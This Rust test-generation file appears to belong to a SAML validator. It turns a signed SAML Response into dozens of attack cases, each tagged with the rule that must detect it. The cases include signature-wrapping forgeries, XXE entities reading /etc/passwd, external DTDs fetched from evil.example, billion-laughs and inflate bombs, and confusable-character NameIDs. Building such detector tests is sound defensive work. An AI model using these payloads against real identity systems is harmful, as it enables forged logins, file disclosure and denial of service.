//! Attacks of every family, made of sound messages: each case says which rule must tell it.

use std::io::Write;
use std::ops::Range;
use std::path::Path;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use samlens::xml::{Doctype, read};

/// A case: its row in the list of families, the rule that must tell it, and the message.
pub struct Case {
    pub row: u8,
    pub rule: &'static str,
    pub name: String,
    pub input: Vec<u8>,
    /// The private key of the encrypted vectors is given.
    pub with_key: bool,
    /// Another certificate is given in the place of what the base has.
    pub other_certificate: bool,
    /// The identity provider's metadata alone is given: it answers no request.
    pub metadata_alone: bool,
}

fn case(row: u8, rule: &'static str, name: &str, input: impl Into<Vec<u8>>) -> Case {
    Case {
        row,
        rule,
        name: name.to_owned(),
        input: input.into(),
        with_key: false,
        other_certificate: false,
        metadata_alone: row == 5,
    }
}

/// The bytes of the first element of a local name, and of what is in it.
fn spans(xml: &str, name: &str) -> Option<(Range<usize>, Range<usize>)> {
    let document = read(xml, Doctype::Refuse).whole().ok()?;
    let node = document.nodes().find(|node| node.local_name() == name)?;
    Some((node.span(), node.content_span()))
}

fn outer(xml: &str, name: &str) -> Range<usize> {
    spans(xml, name).unwrap_or_else(|| panic!("no {name}")).0
}

fn inner(xml: &str, name: &str) -> Range<usize> {
    spans(xml, name).unwrap_or_else(|| panic!("no {name}")).1
}

fn put(xml: &str, range: Range<usize>, what: &str) -> String {
    format!("{}{what}{}", &xml[..range.start], &xml[range.end..])
}

/// The same with something at the start of an element's content, at its end, before it, behind it.
fn first_in(xml: &str, name: &str, what: &str) -> String {
    let at = inner(xml, name).start;
    put(xml, at..at, what)
}

fn last_in(xml: &str, name: &str, what: &str) -> String {
    let at = inner(xml, name).end;
    put(xml, at..at, what)
}

fn before(xml: &str, name: &str, what: &str) -> String {
    let at = outer(xml, name).start;
    put(xml, at..at, what)
}

fn behind(xml: &str, name: &str, what: &str) -> String {
    let at = outer(xml, name).end;
    put(xml, at..at, what)
}

fn text(xml: &str, name: &str, what: &str) -> String {
    put(xml, inner(xml, name), what)
}

/// The same with another value of the first attribute of this name in or behind the first element of that one.
fn attribute(xml: &str, name: &str, attribute: &str, value: &str) -> String {
    let from = outer(xml, name).start;
    let start = format!(" {attribute}=\"");
    let at = from + xml[from..].find(&start).unwrap_or_else(|| panic!("no {attribute}")) + start.len();
    let end = at + xml[at..].find('"').unwrap();
    put(xml, at..end, value)
}

/// An element that stands by itself wherever it is put.
fn alone(xml: &str, name: &str) -> String {
    let mut element = xml[outer(xml, name)].to_owned();
    let head = xml.split('>').find(|tag| tag.contains("Response")).unwrap().to_owned() + ">";
    for declared in head.split_whitespace().filter(|part| part.starts_with("xmlns")) {
        let declared = declared.trim_end_matches('>');
        let key = declared.split('=').next().unwrap();
        let tag = element.split('>').next().unwrap().to_owned();
        if !tag.contains(&format!("{key}=")) && !tag.contains(declared) && key != "xmlns" {
            let at = element.find(' ').unwrap();
            element.insert_str(at, &format!(" {declared}"));
        }
    }
    element
}

/// The assertion under another name and another ID, without its signature.
fn forged(xml: &str) -> String {
    let element = alone(xml, "Assertion");
    let bare = match spans(&element, "Signature") {
        Some((signature, _)) => put(&element, signature, ""),
        None => element,
    };
    text(&attribute(&bare, "Assertion", "ID", "_evil"), "NameID", "mallory@evil.example")
}

const P: &str = "urn:oasis:names:tc:SAML:2.0:protocol";
const A: &str = "urn:oasis:names:tc:SAML:2.0:assertion";
const D: &str = "http://www.w3.org/2000/09/xmldsig#";

fn without(xml: &str, name: &str) -> String {
    let mut xml = xml.to_owned();
    while let Some((span, _)) = spans(&xml, name) {
        xml = put(&xml, span, "");
    }
    xml
}

/// Where the root element's own content begins, behind a declaration.
fn doctype(xml: &str, subset: &str) -> String {
    let at = outer(xml, "Response").start;
    put(xml, at..at, &format!("<!DOCTYPE r{subset}>"))
}

fn encoded(text: impl AsRef<[u8]>) -> String {
    STANDARD.encode(text)
}

fn deflated(text: &[u8]) -> String {
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(text).unwrap();
    encoded(encoder.finish().unwrap())
}

fn escaped(text: &str) -> String {
    utf8_percent_encode(text, NON_ALPHANUMERIC).to_string()
}

/// Every case that can be made of a Response with a signed assertion.
pub fn of_response(xml: &str) -> Vec<Case> {
    let mut all = Vec::new();
    let mut add = |row, rule, name: &str, input: String| all.push(case(row, rule, name, input));
    let evil = forged(xml);
    let assertion = alone(xml, "Assertion");
    let signature = assertion[outer(&assertion, "Signature")].to_owned();
    let bare = put(&assertion, outer(&assertion, "Signature"), "");
    let name = xml[inner(xml, "NameID")].to_owned();

    const WRAPPED: &str = "sig-consumed-unsigned";
    // Where the Response is signed as well, whatever is put into it changes what that signature covers.
    let signatures = xml.matches("SignatureValue>").count() / 2;
    let swapped = |with: &str| put(xml, outer(xml, "Assertion"), with);
    let id = "_evil-response";
    // Where the whole Response is signed: it stands within its Signature, or beside it.
    let genuine = xml.split_once("?>").map_or(xml, |(_, xml)| xml).to_owned();
    let around = |within: &str, after: &str| {
        format!(
            "<p:Response xmlns:p=\"{P}\" ID=\"{id}\" Version=\"2.0\" IssueInstant=\"2026-03-13T14:11:12Z\">{within}\
             <p:Status><p:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></p:Status>{evil}{after}</p:Response>"
        )
    };
    add(
        1,
        WRAPPED,
        "the Response in the Signature of a forged one",
        around(&format!("<Signature xmlns=\"{D}\"><Object>{genuine}</Object></Signature>"), ""),
    );
    add(1, WRAPPED, "the Response before a forged one's assertion", around(&genuine, ""));
    add(1, WRAPPED, "the Response behind a forged one's assertion", around("", &genuine));
    add(2, WRAPPED, "a forged assertion before", before(xml, "Assertion", &evil));
    add(2, WRAPPED, "a forged assertion behind", behind(xml, "Assertion", &evil));
    add(2, WRAPPED, "a forged assertion around", swapped(&last_in(&evil, "Assertion", &assertion)));
    add(2, WRAPPED, "a forged assertion within", last_in(xml, "Assertion", &evil));
    let moved = |object: &str| {
        let own = last_in(&signature, "Signature", object);
        let at = outer(&evil, "Issuer").end;
        put(&evil, at..at, &own)
    };
    add(
        3,
        WRAPPED,
        "the Signature in a forged assertion, the signed one behind",
        swapped(&format!("{}{bare}", moved(""))),
    );
    add(3, WRAPPED, "the signed assertion in the moved Signature", swapped(&moved(&bare)));
    add(
        3,
        WRAPPED,
        "the signed assertion in an Object of the moved Signature",
        swapped(&moved(&format!("<Object xmlns=\"{D}\">{bare}</Object>"))),
    );
    add(
        4,
        WRAPPED,
        "a forged assertion in Extensions",
        before(xml, "Status", &format!("<x:Extensions xmlns:x=\"{P}\">{evil}</x:Extensions>")),
    );
    add(
        4,
        WRAPPED,
        "a forged assertion in StatusDetail",
        last_in(xml, "Status", &format!("<x:StatusDetail xmlns:x=\"{P}\">{evil}</x:StatusDetail>")),
    );
    add(
        4,
        if signatures == 1 { WRAPPED } else { "sig-digest-mismatch" },
        "the signed assertion in Advice of a forged one",
        swapped(&before(&evil, "AuthnStatement", &format!("<x:Advice xmlns:x=\"{A}\">{assertion}</x:Advice>"))),
    );
    for kind in ["LogoutRequest", "AuthnRequest", "LogoutResponse"] {
        add(
            5,
            WRAPPED,
            &format!("a {kind} around a signed assertion"),
            format!(
                "<p:{kind} xmlns:p=\"{P}\" ID=\"{id}\" Version=\"2.0\" IssueInstant=\"2026-03-13T14:11:12Z\">\
             <a:Issuer xmlns:a=\"{A}\">https://evil.example</a:Issuer>{assertion}<a:NameID xmlns:a=\"{A}\">mallory@evil.example</a:NameID></p:{kind}>"
            ),
        );
    }
    const DECOY: &str = "attack-decoy-signature";
    add(6, DECOY, "the Signature twice", xml.replacen(&signature, &format!("{signature}{signature}"), 1));
    add(
        6,
        DECOY,
        "a second Signature with a forged assertion",
        before(xml, "Subject", &last_in(&signature, "Signature", &format!("<Object xmlns=\"{D}\">{evil}</Object>"))),
    );
    add(6, DECOY, "an empty Signature beside", before(xml, "Subject", &format!("<Signature xmlns=\"{D}\"/>")));
    for code in ["Requester", "Responder", "VersionMismatch"] {
        let status = format!("urn:oasis:names:tc:SAML:2.0:status:{code}");
        add(7, "saml-status-error-with-assertion", code, attribute(xml, "StatusCode", "Value", &status));
    }
    let own = assertion.split(" ID=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    add(8, "saml-id-duplicate", "the assertion's ID on the Response", attribute(xml, "Response", "ID", &own));
    add(
        8,
        "saml-id-duplicate",
        "a forged assertion of the same ID",
        before(xml, "Assertion", &attribute(&evil, "Assertion", "ID", &own)),
    );
    for at in ["Id", "id", "xml:id"] {
        let subject = xml[outer(xml, "Subject")].split(['>', ' ']).next().unwrap().to_owned();
        add(8, "attack-id-pollution", at, xml.replacen(&subject, &format!("{subject} {at}=\"{own}\""), 1));
    }
    const OUTSIDE: &str = "attack-digest-outside-signedinfo";
    for part in ["DigestValue", "Reference", "SignedInfo"] {
        let detail = format!("<x:StatusDetail xmlns:x=\"{P}\"><{part} xmlns=\"{D}\">AAAA</{part}></x:StatusDetail>");
        add(9, OUTSIDE, part, last_in(xml, "Status", &detail));
    }
    const COUNT: &str = "attack-signedinfo-count";
    let info = xml[outer(xml, "SignedInfo")].to_owned();
    let value = xml[outer(xml, "SignatureValue")].to_owned();
    add(10, COUNT, "SignedInfo twice", behind(xml, "SignedInfo", &info));
    add(10, COUNT, "SignatureValue twice", behind(xml, "SignatureValue", &value));
    add(10, COUNT, "SignedInfo in another element", put(xml, outer(xml, "SignedInfo"), &format!("<w>{info}</w>")));
    add(10, COUNT, "no SignatureValue", put(xml, outer(xml, "SignatureValue"), ""));
    for (part, hidden) in [
        ("DigestValue", "<!-- x -->"),
        ("SignatureValue", "<!-- x -->"),
        ("SignedInfo", "<?x y?>"),
        ("X509Certificate", "<!---->"),
    ] {
        add(11, "attack-comment-in-signature", &format!("{hidden} in {part}"), first_in(xml, part, hidden));
    }
    const SPLIT: &str = "nid-comment-split";
    for hidden in ["<!-- x -->", "<?x y?>", "<![CDATA[.evil.example]]>", "<x/>"] {
        add(12, SPLIT, &format!("{hidden} in NameID"), last_in(xml, "NameID", &format!("{hidden}.example")));
    }
    for part in ["Issuer", "Audience", "AttributeValue", "AuthnContextClassRef"] {
        add(12, SPLIT, &format!("a comment in {part}"), first_in(xml, part, "x<!-- -->"));
    }
    for part in ["NameID", "Status", "Assertion", "AttributeStatement"] {
        add(13, "attack-pi-in-message", part, first_in(xml, part, "<?target data?>"));
    }
    let whole = xml.split_once("?>").map_or(xml, |(_, xml)| xml);
    add(14, "attack-trailing-content", "a second root", encoded(format!("{xml}{whole}")));
    add(14, "attack-trailing-content", "text behind the root", encoded(format!("{xml}x")));
    add(
        14,
        "attack-parser-differential",
        "UTF-7",
        encoded(format!("<?xml version=\"1.0\" encoding=\"UTF-7\"?>{whole}")),
    );
    add(14, "attack-parser-differential", "the character zero", encoded(text(xml, "NameID", "admin&#0;x")));
    add(14, "saml-xml-dtd", "quotation marks in a document type", doctype(xml, " [<!-- \" --><!ENTITY a '\"'>]"));
    for (digest, name) in
        [("47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=", "SHA-256"), ("2jmj7l5rSw0yVb/vlWAYkK/YBwk=", "SHA-1")]
    {
        add(15, "attack-empty-digest", name, text(xml, "DigestValue", digest));
    }
    for uri in ["1", "../x", "urn:x&#9;y", "x/y"] {
        let tag = xml[outer(xml, "Subject")].split(['>', ' ']).next().unwrap().to_owned();
        add(15, "attack-relative-namespace", uri, xml.replacen(&tag, &format!("{tag} xmlns:v=\"{uri}\""), 1));
    }
    let form = format!("RelayState=x&SAMLResponse={}", escaped(&encoded(format!("junk {whole}"))));
    add(14, "attack-trailing-content", "text in front of the root", form);
    const ALIKE: &str = "attack-namespace-lookalike";
    for uri in [
        "urn:oasis:names:tc:SAML:2.0:Assertion",
        "urn:oasis:names:tc:SAML:2.0:assertion ",
        "urn:oаsis:names:tc:SAML:2.0:assertion",
        "http://www.w3.org/2000/09/xmldsig",
    ] {
        add(16, ALIKE, uri, before(xml, "Status", &format!("<v:Assertion xmlns:v=\"{uri}\"/>")));
    }
    add(16, ALIKE, "a Signature of no namespace", first_in(xml, "Subject", "<Signature xmlns=\"\"/>"));
    add(
        16,
        "saml-xml-dtd",
        "a namespace by default",
        doctype(xml, " [<!ATTLIST saml:Assertion xmlns CDATA \"urn:x\">]"),
    );
    const DTD: &str = "saml-xml-dtd";
    let of_entity = doctype(xml, &format!(" [<!ENTITY a \"{own}\">]"));
    add(17, DTD, "the ID of an entity", of_entity.replacen(&format!("ID=\"{own}\""), "ID=\"&a;\"", 1));
    add(17, DTD, "the Reference of an entity", of_entity.replacen(&format!("URI=\"#{own}\""), "URI=\"#&a;\"", 1));
    let object = format!("<Signature xmlns=\"{D}\"><Object>{assertion}</Object></Signature>");
    add(
        17,
        WRAPPED,
        "the signed assertion in an Object of the Response",
        first_in(&swapped(&evil), "Response", &object),
    );
    let reference = xml[outer(xml, "Reference")].to_owned();
    add(18, "sig-reference-count", "two References", behind(xml, "Reference", &reference));
    add(
        18,
        "sig-reference-count",
        "a Reference to another element",
        behind(xml, "Reference", &attribute(&standing(&reference), "Reference", "URI", "#_evil")),
    );
    add(18, "sig-reference-count", "forty References", behind(xml, "Reference", &reference.repeat(39)));
    let transform = |uri: &str, inside: &str| {
        first_in(xml, "Transforms", &format!("<Transform xmlns=\"{D}\" Algorithm=\"{uri}\">{inside}</Transform>"))
    };
    const TRANSFORMS: &str = "sig-transforms";
    add(19, TRANSFORMS, "XPath", transform("http://www.w3.org/TR/1999/REC-xpath-19991116", "<XPath>false()</XPath>"));
    add(
        19,
        TRANSFORMS,
        "XSLT",
        transform(
            "http://www.w3.org/TR/1999/REC-xslt-19991116",
            "<s:stylesheet xmlns:s=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"/>",
        ),
    );
    add(19, TRANSFORMS, "base64", transform("http://www.w3.org/2000/09/xmldsig#base64", ""));
    let forty = format!("<Transform xmlns=\"{D}\" Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>").repeat(40);
    add(19, TRANSFORMS, "forty", last_in(xml, "Transforms", &forty));
    for uri in ["http://evil.example/x", "file:///etc/passwd", "#xpointer(id('x'))", "", "x' or '1'='1", "#nobody"] {
        add(20, "sig-reference-uri", uri, attribute(xml, "Reference", "URI", uri));
    }
    add(20, "sig-reference-uri", "none", xml.replacen(&format!(" URI=\"#{}\"", reference_of(xml)), "", 1));
    let method = |uri: &str| attribute(xml, "SignatureMethod", "Algorithm", uri);
    for uri in ["http://www.w3.org/2000/09/xmldsig#hmac-sha1", "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"] {
        add(21, "sig-alg-hmac", uri, method(uri));
        let cut = format!("<HMACOutputLength xmlns=\"{D}\">0</HMACOutputLength>");
        let tag = method(uri)[outer(&method(uri), "SignatureMethod")].to_owned();
        let name = tag.trim_start_matches('<').split(' ').next().unwrap().to_owned();
        let opened = tag.split("/>").next().unwrap().split("></").next().unwrap().trim_end_matches('>').to_owned();
        add(21, "attack-truncated-hmac", uri, method(uri).replacen(&tag, &format!("{opened}>{cut}</{name}>"), 1));
    }
    add(22, "sig-none", "no Signature", without(xml, "Signature"));
    let emptied = without(xml, "Signature");
    let empty = |with: &str| behind(&emptied, "Issuer", &format!("<Signature xmlns=\"{D}\">{with}</Signature>"));
    add(22, COUNT, "an empty Signature", empty(""));
    add(22, COUNT, "a Signature with KeyInfo alone", empty("<KeyInfo/>"));
    add(22, "sig-reference-count", "no Reference", put(xml, outer(xml, "Reference"), ""));
    for subset in [
        " [<!ENTITY x SYSTEM \"file:///etc/passwd\">]",
        " [<!ENTITY % p SYSTEM \"http://evil.example/e.dtd\"> %p;]",
        " SYSTEM \"http://evil.example/e.dtd\"",
        " PUBLIC \"-//x\" \"http://evil.example/e.dtd\"",
        " [<!ENTITY x \"y\">]",
        "",
    ] {
        add(23, DTD, subset, doctype(xml, subset));
    }
    let laughs: String = (1..9).map(|n| format!("<!ENTITY e{n} \"{}\">", format!("&e{};", n - 1).repeat(10))).collect();
    let bomb = doctype(xml, &format!(" [<!ENTITY e0 \"lol\">{laughs}]"));
    add(23, "attack-xml-bomb", "billion laughs", bomb.replacen(&format!(">{name}<"), ">&e8;<", 1));
    let long = doctype(xml, &format!(" [<!ENTITY a \"{}\">]", "a".repeat(20_000)));
    add(
        23,
        "attack-xml-bomb",
        "quadratic blow-up",
        long.replacen(&format!(">{name}<"), &format!(">{}<", "&a;".repeat(1_000)), 1),
    );
    for megabytes in [3, 8, 20] {
        let padded = format!("{xml}{}", " ".repeat(megabytes << 20));
        add(24, "attack-inflate-bomb", &format!("{megabytes} MB"), deflated(padded.as_bytes()));
    }
    add(
        25,
        "attack-xml-bomb",
        "depth",
        first_in(xml, "Status", &format!("{}{}", "<a>".repeat(70_000), "</a>".repeat(70_000))),
    );
    let wide: String = (0..70_000).map(|n| format!(" a{n}=\"\"")).collect();
    add(25, "attack-xml-bomb", "attributes", first_in(xml, "Status", &format!("<a{wide}/>")));
    let many: String = (0..70_000).map(|n| format!(" xmlns:a{n}=\"urn:x\"")).collect();
    add(25, "attack-xml-bomb", "namespaces", first_in(xml, "Status", &format!("<a{many}/>")));
    const RANGE: &str = "asr-scd-window-long";
    for year in ["2027", "2036"] {
        add(
            30,
            RANGE,
            &format!("until {year}"),
            attribute(xml, "SubjectConfirmationData", "NotOnOrAfter", &format!("{year}-03-13T14:20:12Z")),
        );
    }
    add(
        30,
        "asr-authninstant-future",
        "a login that is not yet",
        attribute(xml, "AuthnStatement", "AuthnInstant", "2031-03-13T14:20:12Z"),
    );
    let bare_response = without(whole, "Signature");
    let artifact = |response: &str| {
        format!(
            "<p:ArtifactResponse xmlns:p=\"{P}\" ID=\"_art\" Version=\"2.0\" IssueInstant=\"2026-03-13T14:11:12Z\" InResponseTo=\"_r\">\
         <p:Status><p:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></p:Status>{response}</p:ArtifactResponse>"
        )
    };
    add(31, "sig-none", "an unsigned Response in an ArtifactResponse", artifact(&bare_response));
    add(
        31,
        WRAPPED,
        "a forged assertion in the Response of an ArtifactResponse",
        artifact(&before(whole, "Assertion", &evil)),
    );
    add(
        31,
        "sig-none",
        "the same in a SOAP envelope",
        format!(
            "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>{}</s:Body></s:Envelope>",
            artifact(&bare_response)
        ),
    );
    for (what, strange) in [
        ("a Cyrillic letter", "аdmin@acme.example"),
        ("a zero-width space", "ad\u{200B}min@acme.example"),
        ("a right-to-left override", "admin\u{202E}@acme.example"),
    ] {
        add(32, "attack-confusable-text", what, text(xml, "NameID", strange));
    }
    add(
        32,
        "attack-confusable-text",
        "a Cyrillic letter in the Audience",
        text(xml, "Audience", "https://аpp.acme.example/sp"),
    );
    let scd = |what: &str, value: &str| attribute(xml, "SubjectConfirmationData", what, value);
    add(33, "*-recipient-mismatch", "Recipient", scd("Recipient", "https://evil.example/acs"));
    add(33, "asr-scd-expired", "expired", scd("NotOnOrAfter", "2020-01-01T00:00:00Z"));
    add(33, "asr-audience-mismatch", "Audience", text(xml, "Audience", "https://other.example/sp"));
    add(33, "saml-issuer-mismatch-inner", "Issuer", text(xml, "Issuer", "https://evil.example/idp"));
    add(
        33,
        "saml-status-not-success",
        "Status",
        attribute(xml, "StatusCode", "Value", "urn:oasis:names:tc:SAML:2.0:status:Responder"),
    );
    let untrusted = Case {
        other_certificate: true,
        ..case(21, "sig-key-not-in-metadata", "a key that only the message shows", xml)
    };
    all.push(untrusted);
    all
}

/// An element of XML Signature with its namespace declared, whatever its prefix.
fn standing(element: &str) -> String {
    let name = element.trim_start_matches('<').split([' ', '>']).next().unwrap();
    let declared = match name.split_once(':') {
        Some((prefix, _)) => format!("<{name} xmlns:{prefix}=\"{D}\""),
        None => format!("<{name} xmlns=\"{D}\""),
    };
    element.replacen(&format!("<{name}"), &declared, 1)
}

/// What the first Reference names.
fn reference_of(xml: &str) -> String {
    let reference = &xml[outer(xml, "Reference")];
    reference.split("URI=\"#").nth(1).unwrap().split('"').next().unwrap().to_owned()
}

/// The cases of a signed query.
pub fn of_query(url: &str) -> Vec<Case> {
    const TWICE: &str = "attack-redirect-duplicate-parameter";
    let message = url.split("SAMLRequest=").nth(1).unwrap().split('&').next().unwrap().to_owned();
    let signature = url.split("Signature=").nth(1).unwrap().to_owned();
    let unsigned = url.split("&SigAlg").next().unwrap().to_owned();
    let mut all = Vec::new();
    let mut add = |rule, name: &str, input: String| all.push(case(28, rule, name, input));
    for more in [
        "&RelayState=x",
        "&SigAlg=x",
        &format!("&SAMLRequest={message}"),
        &format!("&SAMLResponse={message}"),
        &format!("&samlrequest={message}"),
        "&%52elayState=x",
        &format!("#SAMLRequest={message}"),
        &format!("&Signature={signature}"),
    ] {
        let start: String = more.chars().take(20).collect();
        add(TWICE, &format!("{start} behind"), format!("{url}{more}"));
        if !more.starts_with('#') {
            add(TWICE, &format!("{start} in front"), url.replacen('?', &format!("?{}&", &more[1..]), 1));
            add(TWICE, &format!("{start} unsigned"), format!("{unsigned}&RelayState=y{more}"));
        }
    }
    let relay = url.split("RelayState=").nth(1).unwrap().split('&').next().unwrap().to_owned();
    add(
        "sig-value-mismatch",
        "another RelayState",
        url.replacen(&format!("RelayState={relay}"), "RelayState=https%3A%2F%2Fevil.example", 1),
    );
    for other in ["http://www.w3.org/2000/09/xmldsig#rsa-sha1", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha512"] {
        let own = escaped("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256").replace("%2E", ".").replace("%2D", "-");
        assert!(url.contains(&own), "{own}");
        add("sig-value-mismatch", other, url.replacen(&own, &escaped(other), 1));
    }
    all
}

/// The cases that need an encrypted message: the vectors of `tests/fixtures/encrypted`.
pub fn encrypted() -> Vec<Case> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/encrypted");
    let vector = |row, rule, name: &str| Case {
        with_key: true,
        ..case(row, rule, name, std::fs::read(folder.join(name)).unwrap())
    };
    let mut all = Vec::new();
    for name in
        ["matrix/aes128-gcm_oaep.xml", "matrix/aes128-cbc_oaep.xml", "matrix/3des_rsa15.xml", "forms/encrypted-id.xml"]
    {
        all.push(vector(26, "attack-unsigned-inside-encryption", name));
    }
    for name in ["matrix/3des_oaep.xml", "matrix/aes128-cbc_oaep.xml", "matrix/aes128-cbc_oaep-sha256.xml"] {
        all.push(vector(27, "enc-cbc", name));
    }
    for name in ["matrix/3des_rsa15.xml", "matrix/aes128-gcm_rsa15.xml"] {
        all.push(vector(27, "enc-rsa15", name));
    }
    for name in
        ["bad/gcm-tag-0.xml", "bad/gcm-tag-4.xml", "bad/gcm-tag-8.xml", "bad/gcm-tag-12.xml", "bad/gcm-tag-15.xml"]
    {
        all.push(vector(27, "attack-short-gcm-tag", name));
    }
    all
}
